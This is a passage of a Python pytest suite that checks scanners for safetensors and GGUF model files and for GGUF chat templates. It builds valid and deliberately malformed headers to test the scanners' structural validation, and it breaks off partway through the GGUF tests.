"""Structure validators: safetensors headers, GGUF headers and GGUF chat templates.

Every sample is built here with small struct-packed writers; nothing is loaded or rendered.
"""

from __future__ import annotations

import io
import json
import struct
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO, cast

import numpy as np
import pytest

from registry.scanners.base import SNIFF_BYTES, FileVerdict, ScanLimits, Verdict
from registry.scanners.chat_template import analyze_chat_template
from registry.scanners.gguf import GgufScanner
from registry.scanners.safetensors import SafetensorsScanner

LIMITS = ScanLimits()


class _CountingFile(io.FileIO):
    def __init__(self, path: Path, owner: FileTarget) -> None:
        super().__init__(path, "rb")
        self._owner = owner

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self._owner.bytes_read += len(data or b"")
        return data or b""

    def readinto(self, buffer: object) -> int | None:
        n = super().readinto(buffer)  # type: ignore[arg-type]
        self._owner.bytes_read += n or 0
        return n


class FileTarget:
    """A ScanTarget over a real file that counts the bytes scanners read through `open()`."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self.bytes_read = 0

    @property
    def path(self) -> str:
        return self._path.name

    @property
    def size(self) -> int:
        return self._path.stat().st_size

    def head(self) -> bytes:
        with self._path.open("rb") as f:
            return f.read(SNIFF_BYTES)

    def open(self) -> BinaryIO:
        return cast(BinaryIO, _CountingFile(self._path, self))


def target(tmp_path: Path, data: bytes, name: str = "model.bin") -> FileTarget:
    path = tmp_path / name
    path.write_bytes(data)
    return FileTarget(path)


def rules(result: FileVerdict) -> set[str]:
    return {f.rule for f in result.findings}


# -- safetensors writer ------------------------------------------------------------------------

ST = SafetensorsScanner()


def st_file(
    header: bytes | str | Mapping[str, object], data: bytes = b"", *, pad: bool = True
) -> bytes:
    """8-byte length + header (padded with spaces to a multiple of 8, as the writer does) + data."""
    if isinstance(header, Mapping):
        header = json.dumps(dict(header), separators=(",", ":"))
    raw = header.encode("utf-8") if isinstance(header, str) else header
    if pad:
        raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def st_tensors(
    tensors: Sequence[tuple[str, str, list[int], bytes]], metadata: dict[str, str] | None = None
) -> bytes:
    """A valid file in the reference writer's layout: offsets in header order, no gaps."""
    header: dict[str, object] = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    offset, data = 0, b""
    for name, dtype, shape, payload in tensors:
        header[name] = {
            "dtype": dtype,
            "shape": shape,
            "data_offsets": [offset, offset + len(payload)],
        }
        offset += len(payload)
        data += payload
    return st_file(header, data)


def entry(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def st_scan(tmp_path: Path, data: bytes, limits: ScanLimits = LIMITS) -> FileVerdict:
    t = target(tmp_path, data, "model.safetensors")
    return ST.scan(t, limits)


def realistic_safetensors() -> bytes:
    emb = np.linspace(-1, 1, 64 * 16, dtype=np.float32).astype(np.float16).tobytes()
    bf16 = (np.arange(16 * 16, dtype=np.float32).view(np.uint32) >> 16).astype(np.uint16)
    return st_tensors(
        [
            ("model.embed_tokens.weight", "F16", [64, 16], emb),
            ("model.layers.0.self_attn.q_proj.weight", "BF16", [16, 16], bf16.tobytes()),
            (
                "model.layers.0.input_layernorm.weight",
                "F32",
                [16],
                np.ones(16, np.float32).tobytes(),
            ),
            ("model.position_ids", "I64", [1, 8], np.arange(8, dtype=np.int64).tobytes()),
            ("model.mask", "BOOL", [4], bytes([1, 0, 1, 1])),
            ("model.scale_fp8", "F8_E4M3", [3], b"\x01\x02\x03"),
            ("model.empty", "F32", [0, 5], b""),
            ("lm_head.weight_fp4", "F4", [4, 2], b"\x12\x34\x56\x78"),
        ],
        metadata={"format": "pt", "note": "naïve ünïcode ok"},
    )


class TestSafetensorsSniff:
    def test_applies_to_safetensors_by_content(self, tmp_path: Path) -> None:
        assert ST.applies_to(target(tmp_path, realistic_safetensors(), "weights.bin"))

    @pytest.mark.parametrize(
        "data",
        [
            struct.pack("<Q", 1000) + b"{}",  # length past the end of a 10-byte file
            struct.pack("<Q", 1 << 48) + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
        ],
    )
    def test_a_length_past_the_end_is_malformed_not_ignored(
        self, tmp_path: Path, data: bytes
    ) -> None:
        path = tmp_path / "lying.safetensors"
        path.write_bytes(data)
        target = FileTarget(path)
        assert SafetensorsScanner().applies_to(target)
        assert SafetensorsScanner().scan(target, ScanLimits()).verdict is Verdict.MALFORMED

    @pytest.mark.parametrize(
        "data",
        [
            b"GGUF\x03\x00\x00\x00" + bytes(32),
            b"PK\x03\x04" + bytes(64),
            b"\x80\x04\x95" + bytes(64),
            struct.pack("<Q", 10) + b"[1,2,3]   ",  # not an object
            b"\x02\x00\x00",  # too short
        ],
    )
    def test_other_content_does_not_apply(self, tmp_path: Path, data: bytes) -> None:
        assert not ST.applies_to(target(tmp_path, data, "weights.bin"))

    @pytest.mark.parametrize(
        "data",
        [
            b"\x00" + bytes(range(256)) * 4,  # random-looking weights, no header
            b"GGUF\x03\x00\x00\x00" + bytes(32),
            struct.pack("<Q", 10) + b"[1,2,3]   ",
            b"",
        ],
    )
    @pytest.mark.parametrize("name", ["model.safetensors", "sub/Model.SafeTensors"])
    def test_a_file_named_safetensors_is_claimed_whatever_its_bytes(
        self, tmp_path: Path, data: bytes, name: str
    ) -> None:
        """The loader opens it by name: bytes that are not safetensors are malformed, not clean."""
        (tmp_path / "sub").mkdir()
        t = target(tmp_path, data, name)
        assert ST.applies_to(t)
        result = ST.scan(t, LIMITS)
        assert result.verdict is Verdict.MALFORMED
        assert rules(result) & {
            "safetensors.header.length",
            "safetensors.header.truncated",
            "safetensors.header.start",
            "safetensors.header.not-object",
        }


class TestSafetensorsValid:
    def test_realistic_file_is_clean(self, tmp_path: Path) -> None:
        result = st_scan(tmp_path, realistic_safetensors())
        assert result.verdict is Verdict.CLEAN, result.findings

    def test_empty_header_is_clean(self, tmp_path: Path) -> None:
        assert st_scan(tmp_path, st_file({}, pad=False)).verdict is Verdict.CLEAN

    def test_unpadded_header_is_clean(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [3], 0, 3)}, b"abc", pad=False)
        assert st_scan(tmp_path, data).verdict is Verdict.CLEAN


def _malformed(tmp_path: Path, data: bytes, rule: str, limits: ScanLimits = LIMITS) -> FileVerdict:
    result = st_scan(tmp_path, data, limits)
    assert result.verdict is Verdict.MALFORMED, result
    assert rule in rules(result), rules(result)
    return result


class TestSafetensorsViolations:
    def test_header_over_limit(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [1], 0, 1)}, b"x")
        _malformed(tmp_path, data, "safetensors.header.length", ScanLimits(max_header_bytes=16))

    def test_header_length_past_end_of_file(self, tmp_path: Path) -> None:
        data = struct.pack("<Q", 2**40) + b'{"a":1}'
        _malformed(tmp_path, data, "safetensors.header.length")

    def test_header_length_too_small(self, tmp_path: Path) -> None:
        _malformed(tmp_path, struct.pack("<Q", 1) + b"{", "safetensors.header.length")

    def test_file_shorter_than_length_field(self, tmp_path: Path) -> None:
        _malformed(tmp_path, b"\x10\x00", "safetensors.header.truncated")

    def test_non_utf8_header(self, tmp_path: Path) -> None:
        header = b'{"caf\xe9":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
        _malformed(tmp_path, st_file(header, b"x"), "safetensors.header.utf8")

    def test_header_must_start_with_brace(self, tmp_path: Path) -> None:
        _malformed(tmp_path, st_file(b"  {}"), "safetensors.header.start")

    def test_duplicate_tensor_key(self, tmp_path: Path) -> None:
        header = (
            '{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},'
            '"w":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}'
        )
        result = _malformed(tmp_path, st_file(header, b"xy"), "safetensors.json.duplicate-key")
        assert result.findings[0].evidence["key"] == "w"

    def test_duplicate_nested_key(self, tmp_path: Path) -> None:
        header = '{"w":{"dtype":"U8","dtype":"F32","shape":[1],"data_offsets":[0,1]}}'
        _malformed(tmp_path, st_file(header, b"x"), "safetensors.json.duplicate-key")

    @pytest.mark.parametrize("token", ["NaN", "Infinity", "-Infinity"])
    def test_non_finite_constants(self, tmp_path: Path, token: str) -> None:
        header = f'{{"__metadata__":{{"x":{token}}}}}'
        _malformed(tmp_path, st_file(header), "safetensors.json.non-finite")

    def test_invalid_json(self, tmp_path: Path) -> None:
        _malformed(tmp_path, st_file('{"a":'), "safetensors.json.invalid")

    def test_deep_nesting_is_malformed_not_a_crash(self, tmp_path: Path) -> None:
        header = '{"__metadata__":' + "[" * 100_000 + "]" * 100_000 + "}"
        assert st_scan(tmp_path, st_file(header)).verdict is Verdict.MALFORMED

    def test_unknown_dtype(self, tmp_path: Path) -> None:
        data = st_file({"w": entry("Q4_K", [4], 0, 4)}, b"abcd")
        result = _malformed(tmp_path, data, "safetensors.tensor.dtype")
        assert result.findings[0].evidence["tensor"] == "w"

    def test_size_mismatch(self, tmp_path: Path) -> None:
        data = st_file({"w": entry("F32", [2, 2], 0, 12)}, bytes(12))
        result = _malformed(tmp_path, data, "safetensors.tensor.size-mismatch")
        assert result.findings[0].evidence == {"tensor": "w", "span": 12, "expected": 16}

    def test_sub_byte_dtype_must_fill_whole_bytes(self, tmp_path: Path) -> None:
        data = st_file({"w": entry("F4", [3], 0, 2)}, bytes(2))
        _malformed(tmp_path, data, "safetensors.tensor.misaligned")

    def test_gap_between_tensors(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [2], 0, 2), "b": entry("U8", [2], 4, 6)}, bytes(6))
        result = _malformed(tmp_path, data, "safetensors.layout.gap")
        assert result.findings[0].evidence["tensor"] == "b"

    def test_data_not_starting_at_zero(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [2], 2, 4)}, bytes(4))
        _malformed(tmp_path, data, "safetensors.layout.gap")

    def test_overlapping_tensors(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [4], 0, 4), "b": entry("U8", [2], 2, 4)}, bytes(4))
        result = _malformed(tmp_path, data, "safetensors.layout.overlap")
        assert any(f.evidence.get("other") == "a" for f in result.findings)

    def test_aliased_tensors(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [4], 0, 4), "b": entry("U8", [4], 0, 4)}, bytes(4))
        _malformed(tmp_path, data, "safetensors.layout.overlap")

    def test_unsorted_offsets(self, tmp_path: Path) -> None:
        data = st_file({"b": entry("U8", [2], 2, 4), "a": entry("U8", [2], 0, 2)}, bytes(4))
        result = _malformed(tmp_path, data, "safetensors.layout.unsorted")
        assert rules(result) == {"safetensors.layout.unsorted"}

    def test_short_data_section(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [8], 0, 8)}, bytes(5))
        _malformed(tmp_path, data, "safetensors.layout.out-of-bounds")

    def test_unreferenced_trailing_data(self, tmp_path: Path) -> None:
        data = st_file({"a": entry("U8", [2], 0, 2)}, bytes(2) + b"PAYLOAD")
        _malformed(tmp_path, data, "safetensors.layout.trailing-data")

    @pytest.mark.parametrize("trailer", [b"xx", b"\n", b"\t", b"\x00\x00", b" {}"])
    def test_trailing_garbage_in_header(self, tmp_path: Path, trailer: bytes) -> None:
        header = json.dumps({"a": entry("U8", [1], 0, 1)}).encode() + trailer
        _malformed(tmp_path, st_file(header, b"x"), "safetensors.header.trailing-bytes")

    def test_metadata_values_must_be_strings(self, tmp_path: Path) -> None:
        data = st_file({"__metadata__": {"format": "pt", "epochs": 3}})
        result = _malformed(tmp_path, data, "safetensors.metadata.not-string-map")
        assert result.findings[0].evidence["key"] == "epochs"

    def test_metadata_must_be_a_map(self, tmp_path: Path) -> None:
        _malformed(
            tmp_path, st_file({"__metadata__": ["pt"]}), "safetensors.metadata.not-string-map"
        )

    @pytest.mark.parametrize(
        ("value", "rule"),
        [
            ({"dtype": "U8", "shape": [1]}, "safetensors.tensor.fields"),
            ({**entry("U8", [1], 0, 1), "extra": 1}, "safetensors.tensor.fields"),
            (entry("U8", [-1], 0, 1), "safetensors.tensor.shape"),
            (entry("U8", [True], 0, 1), "safetensors.tensor.shape"),
            (entry("U8", [1.0], 0, 1), "safetensors.tensor.shape"),  # type: ignore[list-item]
            ({"dtype": "U8", "shape": [1], "data_offsets": [1, 0]}, "safetensors.tensor.offsets"),
            ({"dtype": "U8", "shape": [1], "data_offsets": [0]}, "safetensors.tensor.offsets"),
            (
                {"dtype": "U8", "shape": [1], "data_offsets": [0, 2**64]},
                "safetensors.tensor.offsets",
            ),
            ("not an object", "safetensors.tensor.not-object"),
        ],
    )
    def test_bad_tensor_entries(self, tmp_path: Path, value: object, rule: str) -> None:
        result = _malformed(tmp_path, st_file({"w": value}, b"x"), rule)
        assert result.findings[0].evidence["tensor"] == "w"

    def test_lone_surrogate_in_name(self, tmp_path: Path) -> None:
        header = '{"w\\ud800":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
        _malformed(tmp_path, st_file(header, b"x"), "safetensors.header.invalid-string")

    def test_every_violation_is_reported(self, tmp_path: Path) -> None:
        header = {
            "a": entry("F32", [2], 0, 4),  # size mismatch
            "b": entry("NOPE", [1], 4, 5),  # unknown dtype
            "c": entry("U8", [1], 9, 10),  # gap
        }
        result = st_scan(tmp_path, st_file(header, bytes(10)))
        assert {
            "safetensors.tensor.size-mismatch",
            "safetensors.tensor.dtype",
            "safetensors.layout.gap",
        } <= rules(result)


class TestSafetensorsReadsHeaderOnly:
    def test_only_length_and_header_are_read(self, tmp_path: Path) -> None:
        payload = bytes(range(256)) * 4096  # 1 MiB of tensor data
        data = st_tensors([("w", "U8", [len(payload)], payload)])
        t = target(tmp_path, data, "model.safetensors")
        (n,) = struct.unpack_from("<Q", data)
        assert ST.scan(t, LIMITS).verdict is Verdict.CLEAN
        assert t.bytes_read == 8 + n

    def test_sparse_one_gigabyte_file_is_fast(self, tmp_path: Path) -> None:
        size = 2**30
        header = st_file({"w": entry("U8", [size], 0, size)})
        path = tmp_path / "big.safetensors"
        with path.open("wb") as f:
            f.write(header)
            f.truncate(len(header) + size)
        t = FileTarget(path)
        assert ST.applies_to(t)
        result = ST.scan(t, LIMITS)  # the wall-clock bound (1 s) is in bench/scan_speed.py
        assert result.verdict is Verdict.CLEAN, result.findings
        assert t.bytes_read == len(header)


# -- GGUF writer -------------------------------------------------------------------------------

U8, I8, U16, I16, U32, I32, F32, BOOL, STRING, ARRAY, U64, I64, F64 = range(13)
_FMT = {U8: "B", I8: "b", U16: "H", I16: "h", U32: "I", I32: "i", F32: "f", BOOL: "B",
        U64: "Q", I64: "q", F64: "d"}  # fmt: skip
GGML_F32, GGML_F16, GGML_Q4_0, GGML_Q8_0, GGML_Q4_K, GGML_BF16 = 0, 1, 2, 8, 12, 30
_GGML_SIZE = {GGML_F32: (1, 4), GGML_F16: (1, 2), GGML_Q4_0: (32, 18), GGML_Q8_0: (32, 34),
              GGML_Q4_K: (256, 144), GGML_BF16: (1, 2)}  # fmt: skip


@dataclass
class KV:
    key: str
    vtype: int
    value: object


@dataclass
class Tensor:
    name: str
    dims: tuple[int, ...]
    ggml_type: int = GGML_F32
    offset: int | None = None  # None: next aligned offset

    @property
    def nbytes(self) -> int:
        block, size = _GGML_SIZE.get(self.ggml_type, (1, 4))
        n = 1
        for d in self.dims[1:]:
            n *= d
        return (self.dims[0] if self.dims else 1) // block * size * n


def _len(n: int, version: int) -> bytes:
    return struct.pack("<Q" if version >= 2 else "<I", n)


def g_str(s: str | bytes, version: int = 3) -> bytes:
    raw = s.encode() if isinstance(s, str) else s
    return _len(len(raw), version) + raw


def g_value(vtype: int, value: object, version: int = 3) -> bytes:
    if vtype == STRING:
        return g_str(cast(str, value), version)
    if vtype == ARRAY:
        item_type, items = cast(tuple[int, list[object]], value)
        body = b"".join(g_value(item_type, v, version) for v in items)
        return struct.pack("<I", item_type) + _len(len(items), version) + body
    return struct.pack("<" + _FMT[vtype], value)


def gguf_header(
    kvs: Sequence[KV], tensors: Sequence[Tensor], version: int = 3, alignment: int = 32
) -> bytes:
    layout(tensors, alignment)
    out = b"GGUF" + struct.pack("<I", version) + _len(len(tensors), version)
    out += _len(len(kvs), version)
    for kv in kvs:
        out += (
            g_str(kv.key, version)
            + struct.pack("<I", kv.vtype)
            + g_value(kv.vtype, kv.value, version)
        )
    for t in tensors:
        out += g_str(t.name, version) + struct.pack("<I", len(t.dims))
        out += b"".join(_len(d, version) for d in t.dims)
        out += struct.pack("<IQ", t.ggml_type, t.offset)
    return out


def layout(tensors: Sequence[Tensor], alignment: int = 32) -> int:
    """Assign missing offsets contiguously (aligned); returns the data section size."""
    end = 0
    for t in tensors:
        if t.offset is None:
            t.offset = -(-end // alignment) * alignment
        end = max(end, t.offset + t.nbytes)
    return -(-end // alignment) * alignment


def gguf_file(
    kvs: Sequence[KV] = (),
    tensors: Sequence[Tensor] = (),
    *,
    version: int = 3,
    alignment: int = 32,
    data_size: int | None = None,
) -> bytes:
    data_len = layout(tensors, alignment)
    header = gguf_header(kvs, tensors, version, alignment)
    header += bytes(-len(header) % alignment)
    return header + bytes(data_len if data_size is None else data_size)


CHATML = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

LLAMA3 = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if tools is not none %}{{- "Environment: ipython\\n" }}{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{{- system_message }}
{{- "<|eot_id|>" }}
{%- for message in messages %}
    {%- if message.role == 'tool' or message.role == 'ipython' %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {{- '"parameters": ' }}{{- tool_call.arguments | tojson }}{{- "}" }}
        {{- "<|eot_id|>" }}
    {%- else %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'
            + message['content'] | trim + '<|eot_id|>' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""

MISTRAL = """{%- set ns = namespace(found_system=false, system='') %}
{%- for message in messages %}
    {%- if message['role'] == 'system' %}
        {%- set ns.found_system = true %}{%- set ns.system = message['content'] %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}
{%- for message in messages | rejectattr('role', 'equalto', 'system') %}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}
        {{- raise_exception('Conversation roles must alternate user/assistant/...') }}
    {%- endif %}
    {%- if message['role'] == 'user' %}
        {%- if loop.first and ns.found_system %}
            {{- '[INST] ' + ns.system + '\\n\\n' + message['content'] + ' [/INST]' }}
        {%- else %}
            {{- '[INST] ' + message['content'] + ' [/INST]' }}
        {%- endif %}
    {%- elif message['role'] == 'assistant' %}
        {{- ' ' + message['content'] | trim + eos_token }}
    {%- else %}
        {{- raise_exception('Only user and assistant roles are supported!') }}
    {%- endif %}
{%- endfor %}
"""

TOOLS_GENERATION = """{%- if tools %}
    {{- '<|im_start|>system\\n# Tools\\n<tools>' }}
    {%- for tool in tools %}{{- '\\n' }}{{- tool | tojson }}{%- endfor %}
    {{- '\\n</tools><|im_end|>\\n' }}
{%- endif %}
{%- for message in messages %}
    {%- if message.role == 'assistant' %}
        {{- '<|im_start|>assistant\\n' }}
        {%- generation %}{{- message.content }}{%- endgeneration %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == 'tool' and message.content.startswith('<tool_response>') %}
        {{- '<|im_start|>user\\n' + message.content + '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}
    {%- endif %}
    {%- if loop.index > 1000 %}{%- break %}{%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""

BENIGN_TEMPLATES = {
    "chatml": CHATML,
    "llama3": LLAMA3,
    "mistral": MISTRAL,
    "tools": TOOLS_GENERATION,
}


def realistic_kvs(template: str | None = CHATML) -> list[KV]:
    tokens = ["<unk>", "<s>", "</s>", "▁the", "Ġhello", "<0x0A>", "日本"]
    kvs = [
        KV("general.architecture", STRING, "llama"),
        KV("general.name", STRING, "tiny-test"),
        KV("general.alignment", U32, 32),
        KV("general.file_type", U32, 15),
        KV("llama.context_length", U32, 4096),
        KV("llama.rope.freq_base", F32, 10000.0),
        KV("llama.attention.layer_norm_rms_epsilon", F64, 1e-5),
        KV("llama.vocab_size", U64, len(tokens)),
        KV("general.quantization_version", I64, 2),
        KV("general.flags", ARRAY, (BOOL, [1, 0, 1])),
        KV("tokenizer.ggml.model", STRING, "llama"),
        KV("tokenizer.ggml.tokens", ARRAY, (STRING, tokens)),
        KV("tokenizer.ggml.scores", ARRAY, (F32, [0.0] * len(tokens))),
        KV("tokenizer.ggml.token_type", ARRAY, (I32, [2, 3, 3, 1, 1, 6, 1])),
        KV("tokenizer.ggml.add_bos_token", BOOL, 1),
        KV("tokenizer.ggml.bos_token_id", U32, 1),
        KV("tokenizer.ggml.i8", I8, -3),
        KV("tokenizer.ggml.u8", U8, 200),
        KV("tokenizer.ggml.i16", I16, -300),
        KV("tokenizer.ggml.u16", U16, 60000),
        KV("test.nested", ARRAY, (ARRAY, [(U32, [1, 2]), (STRING, ["a"])])),
    ]
    if template is not None:
        kvs.append(KV("tokenizer.chat_template", STRING, template))
    return kvs


def realistic_tensors() -> list[Tensor]:
    return [
        Tensor("token_embd.weight", (256, 7), GGML_Q4_K),
        Tensor("blk.0.attn_q.weight", (64, 64), GGML_Q8_0),
        Tensor("blk.0.attn_k.weight", (64, 16), GGML_Q4_0),
        Tensor("blk.0.attn_norm.weight", (64,), GGML_F32),
        Tensor("blk.0.ffn_up.weight", (64, 3, 1, 1), GGML_F16),
        Tensor("output_norm.weight", (64,), GGML_BF16),
    ]


GG = GgufScanner()


def gg_scan(tmp_path: Path, data: bytes, limits: ScanLimits = LIMITS) -> FileVerdict:
    return GG.scan(target(tmp_path, data, "model.gguf"), limits)


def gg_expect(
    tmp_path: Path, data: bytes, verdict: Verdict, rule: str, limits: ScanLimits = LIMITS
) -> FileVerdict:
    result = gg_scan(tmp_path, data, limits)
    assert result.verdict is verdict, result
    assert rule in rules(result), rules(result)
    return result


class TestGgufStructure:
    @pytest.mark.parametrize("version", [1, 2, 3])
    def test_realistic_file_is_clean(self, tmp_path: Path, version: int) -> None:
        kvs = realistic_kvs()
        if version == 1:  # 64-bit value types arrived in v2
            kvs = [kv for kv in kvs if kv.vtype not in (U64, I64, F64)]
        data = gguf_file(kvs, realistic_tensors(), version=version)
        t = target(tmp_path, data, "weights.bin")
        assert GG.applies_to(t)
        result = GG.scan(t, LIMITS)
        assert result.verdict is Verdict.CLEAN, result.findings

    def test_vocab_only_file_is_clean(self, tmp_path: Path) -> None:
        data = gguf_header(realistic_kvs(None), [])
        assert gg_scan(tmp_path, data).verdict is Verdict.CLEAN

    def test_custom_alignment(self, tmp_path: Path) -> None:
        kvs = [KV("general.alignment", U32, 64)]
        data = gguf_file(kvs, [Tensor("a", (3,)), Tensor("b", (5,))], alignment=64)
        assert gg_scan(tmp_path, data).verdict is Verdict.CLEAN

    @pytest.mark.parametrize(
        "data", [b"GGUG\x03\x00\x00\x00" + bytes(16), b"ggml" + bytes(20), b"GGU", b""]
    )
    def test_bad_magic_does_not_apply(self, tmp_path: Path, data: bytes) -> None:
        t = target(tmp_path, data, "weights.bin")
        assert not GG.applies_to(t)
        assert GG.scan(t, LIMITS).verdict is Verdict.MALFORMED

    @pytest.mark.parametrize("data", [b"GGUG\x03\x00\x00\x00" + bytes(16), b"ggml" + bytes(20)])
    def test_a_file_named_gguf_is_claimed_whatever_its_bytes(
        self, tmp_path: Path, data: bytes
    ) -> None:
        t = target(tmp_path, data, "model.GGUF")
        assert GG.applies_to(t)
        assert rules(GG.scan(t, LIMITS)) == {"gguf.header.magic"}

    def test_unknown_version_is_unsupported(self, tmp_path: Path) -> None:
        data = b"GGUF" + struct.pack("<IQQ", 4, 0, 0)
        gg_expect(tmp_path, data, Verdict.UNSUPPORTED, "gguf.header.version")

    def test_big_endian_is_unsupported(self, tmp_path: Path) -> None:
        data = b"GGUF" + struct.pack(">IQQ", 3, 0, 0)
        gg_expect(tmp_path, data, Verdict.UNSUPPORTED, "gguf.header.big-endian")

    @pytest.mark.parametrize(
        ("n_tensors", "n_kv"), [(2**60, 0), (0, 2**62), (0, 10_000_001), (1000, 0), (0, 1000)]
    )
    def test_count_bombs(self, tmp_path: Path, n_tensors: int, n_kv: int) -> None:
        data = b"GGUF" + struct.pack("<IQQ", 3, n_tensors, n_kv) + bytes(64)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.header.count")

    def test_key_length_bomb(self, tmp_path: Path) -> None:
        data = b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 2**40) + b"k" * 64
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.string.too-long")

    def test_string_value_over_limit(self, tmp_path: Path) -> None:
        data = gguf_file([KV("general.name", STRING, "x" * 200)])
        limits = ScanLimits(max_string_bytes=100)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.string.too-long", limits)

    def test_string_length_past_end_of_file(self, tmp_path: Path) -> None:
        data = (
            b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + g_str("k") + struct.pack("<IQ", STRING, 1000)
        )
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.header.truncated")

    def test_array_length_bomb(self, tmp_path: Path) -> None:
        data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + g_str("tokens")
        data += struct.pack("<IIQ", ARRAY, STRING, 2**50) + bytes(64)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.array-too-long")

    def test_array_items_budget(self, tmp_path: Path) -> None:
        data = gguf_file([KV("a", ARRAY, (U8, [0] * 60)), KV("b", ARRAY, (U8, [0] * 60))])
        gg_expect(
            tmp_path, data, Verdict.MALFORMED, "gguf.kv.array-too-long", ScanLimits(max_items=100)
        )

    def test_array_nesting_bomb(self, tmp_path: Path) -> None:
        value: object = (U8, [1])
        for _ in range(20):
            value = (ARRAY, [value])
        data = gguf_file([KV("deep", ARRAY, value)])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.array-nesting")

    def test_unknown_value_type(self, tmp_path: Path) -> None:
        data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + g_str("k") + struct.pack("<II", 13, 0)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.type")

    def test_v1_rejects_64_bit_types(self, tmp_path: Path) -> None:
        data = gguf_file([KV("k", U64, 1)], version=1)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.type")

    def test_bool_must_be_zero_or_one(self, tmp_path: Path) -> None:
        data = gguf_file([KV("flag", BOOL, 2)])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.bool")

    def test_duplicate_key(self, tmp_path: Path) -> None:
        data = gguf_file([KV("general.name", STRING, "a"), KV("general.name", STRING, "b")])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.duplicate-key")

    def test_non_utf8_key(self, tmp_path: Path) -> None:
        data = (
            b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + g_str(b"\xff\xfe") + struct.pack("<IB", U8, 1)
        )
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.string.utf8")

    @pytest.mark.parametrize(("vtype", "value"), [(U32, 48), (U32, 0), (U64, 64), (STRING, "32")])
    def test_bad_alignment(self, tmp_path: Path, vtype: int, value: object) -> None:
        data = gguf_file([KV("general.alignment", vtype, value)])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.alignment")

    def test_misaligned_offset(self, tmp_path: Path) -> None:
        data = gguf_file([], [Tensor("a", (8,), offset=0), Tensor("b", (8,), offset=40)])
        result = gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.misaligned")
        assert any(f.evidence.get("tensor") == "b" for f in result.findings)

    def test_misaligned_for_custom_alignment(self, tmp_path: Path) -> None:
        kvs = [KV("general.alignment", U32, 64)]
        tensors = [Tensor("a", (8,), offset=0), Tensor("b", (8,), offset=32)]
        gg_expect(tmp_path, gguf_file(kvs, tensors), Verdict.MALFORMED, "gguf.tensor.misaligned")

    def test_overlapping_tensors(self, tmp_path: Path) -> None:
